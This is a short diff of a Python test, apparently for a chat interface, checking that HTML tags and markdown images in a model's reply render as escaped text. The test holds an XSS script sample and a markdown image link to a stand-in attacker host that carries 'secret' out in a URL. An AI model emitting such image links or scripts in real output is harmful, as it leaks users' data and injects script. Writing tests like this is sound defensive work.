@@ -142,7 +142,7 @@ def test_model_output_html_and_images_render_as_text(scripted):
     send(at, "say something nasty")
     assert history(at)[1][1] == PAYLOAD            # history keeps the raw model text
     shown = at.chat_message[1].markdown[0].value
-    assert "<script>alert('xss')</script>" in shown and "<b>bold</b>" in shown
+    assert "\\<script>alert('xss')\\</script>" in shown and "\\<b>bold\\</b>" in shown
     assert "\\![leak](https://evil.example/collect?d=secret)" in shown
     assert "](https" not in shown.replace("\\![leak](https", "")
     assert all(not m.proto.allow_html for m in all_markdown(at))
